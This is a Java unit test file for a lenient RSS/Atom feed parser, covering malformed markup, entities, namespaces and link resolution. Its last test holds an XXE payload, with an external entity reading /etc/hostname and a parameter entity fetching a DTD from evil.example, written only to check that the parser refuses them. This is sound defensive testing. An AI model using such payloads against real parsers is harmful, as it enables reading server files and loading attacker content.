package org.tidings.ingest.parse;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class BrokenFeedTest {
    @Test
    void givenBareAmpersandsAndEntitiesOfHtml_whenRead_thenTheyAreText() {
        var item =
                Reading.rssItem(
                        "<title>Caf&eacute; &amp; bar &mdash; R&D &nosuch; &#8217;s &#146;s</title>"
                                + "<link>https://harbour-post.example/?a=1&b=2&copy=3</link>");

        assertThat(item.title()).isEqualTo("Café & bar — R&D &nosuch; ’s ’s");
        assertThat(item.link()).isEqualTo("https://harbour-post.example/?a=1&b=2&copy=3");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // never closed
                "<rss><channel><title>HP</title><item><title>A</title><link>/a",
                "<rss><channel><title>HP<item><title>A<link>/a</item></channel></rss>",
                // closed in the wrong order, or twice
                "<rss><channel><title>HP</title><item><title>A</title></b><link>/a</link></channel></item></rss>",
                "<rss><channel><title>HP</title></title><item><title>A</title><link>/a</item><item></item>",
                // junk around it
                "\n\n warning: disk full\n<?xml version='1.0'?><rss><channel><title>HP</title><item><title>A</title><link>/a</link></item></channel></rss>trailing",
                "<html><body><rss><channel><title>HP</title><item><title>A</title><link>/a</link></item></channel></rss></body></html>",
                // other case, wrong and undeclared namespaces
                "<RSS><Channel><TITLE>HP</TITLE><Item><Title>A</Title><LINK>/a</LINK></Item></Channel></RSS>",
                "<rss xmlns='https://wrong.example/'><channel><title>HP</title><item><title>A</title><link>/a</link></item></channel></rss>",
                "<rss><channel><dc:title>HP</dc:title><item><media:title>A</media:title><atom:link href='/a'/></item></channel></rss>",
                // attributes without quotes, a comment that never ends
                "<feed version=1.0><title type=text>HP</title><entry><title>A</title><link rel=alternate href=/a /></entry><!-- end",
                "<rss><channel><title>HP</title><!- no comment -><item><title>A</title><link>/a</link></item></channel></rss>",
                // control characters, a section that never ends
                "<rss><channel><title>H\u0001P\u0000</title><item><title>\u000bA</title><link>/a</link></item></channel></rss>",
                "<rss><channel><title>HP</title><item><link>/a</link><title><![CDATA[A</title></item></channel></rss>"
            })
    void givenABrokenFeed_whenRead_thenWhatItSaysIsThere(String document) {
        var feed = Reading.feed(document);

        assertThat(feed.title()).isEqualTo("HP");
        assertThat(feed.items().getFirst().title()).isEqualTo("A");
        assertThat(feed.items().getFirst().link()).isEqualTo("https://harbour-post.example/a");
    }

    @Test
    void givenMarkupThatIsNotEscaped_whenRead_thenItIsTheText() {
        var item =
                Reading.rssItem(
                        "<description><p>One<br>two <img src='/x.png' alt=\"a &quot;b&quot;\"></p>"
                                + "</description><link>/a</link>");

        assertThat(item.summary())
                .isEqualTo(
                        "<p>One<br />two <img alt=\"a &quot;b&quot;\""
                                + " src=\"https://harbour-post.example/x.png\" /></p>");
        assertThat(item.link()).isEqualTo("https://harbour-post.example/a");
    }

    @Test
    void givenSummaryAndDescription_whenRead_thenTheFirstIsTheSummary() {
        assertThat(Reading.rssItem("<summary>s</summary><description>d</description>").summary())
                .isEqualTo("s");
        assertThat(Reading.rssItem("<summary>s</summary><description>d</description>").content())
                .containsExactly("d");
    }

    @Test
    void givenAModulesElementOfTheSameName_whenRead_thenItIsNotTaken() {
        var item =
                Reading.rssItem(
                        "<x:description xmlns:x='https://x.example/'>wrong</x:description>"
                                + "<description>right</description>"
                                + "<title xmlns='https://y.example/'>wrong</title>");

        assertThat(item.summary()).isEqualTo("right");
        assertThat(item.title()).isNull();
    }

    @ParameterizedTest
    @CsvSource({
        "<guid>https://harbour-post.example/p</guid>, https://harbour-post.example/p",
        "<guid isPermaLink='false'>https://harbour-post.example/p</guid>, ",
        "<guid>17</guid>, ",
        "<link/><guid>https://harbour-post.example/p</guid>, https://harbour-post.example/p",
        "<link>?id=3</link>, https://harbour-post.example/feeds/news.xml?id=3",
        "<link>//other.example/a b</link>, https://other.example/a%20b",
        "'<link>\n /a\n </link>', https://harbour-post.example/a",
        "<link href='https://harbour-post.example/h'/>, https://harbour-post.example/h"
    })
    void givenLinksOfManyForms_whenRead_thenTheyAreAbsolute(String item, String link) {
        assertThat(Reading.rssItem(item).link()).isEqualTo(link);
    }

    @Test
    void givenADocumentsOwnEntities_whenRead_thenTheyAreResolvedAndOthersAreNot() {
        var feed =
                Reading.feed(
                        """
                        <!DOCTYPE rss [
                          <!ENTITY paper "Harbour &port; Post">
                          <!ENTITY port 'and Sea'>
                          <!ENTITY secret SYSTEM "file:///etc/hostname">
                          <!ENTITY % more SYSTEM "https://evil.example/x.dtd"> %more;
                        ]>
                        <rss><channel><title>&paper;</title><description>&secret;</description></channel></rss>
                        """);

        assertThat(feed.title()).isEqualTo("Harbour and Sea Post");
        assertThat(feed.subtitle()).isEqualTo("&secret;");
    }
}
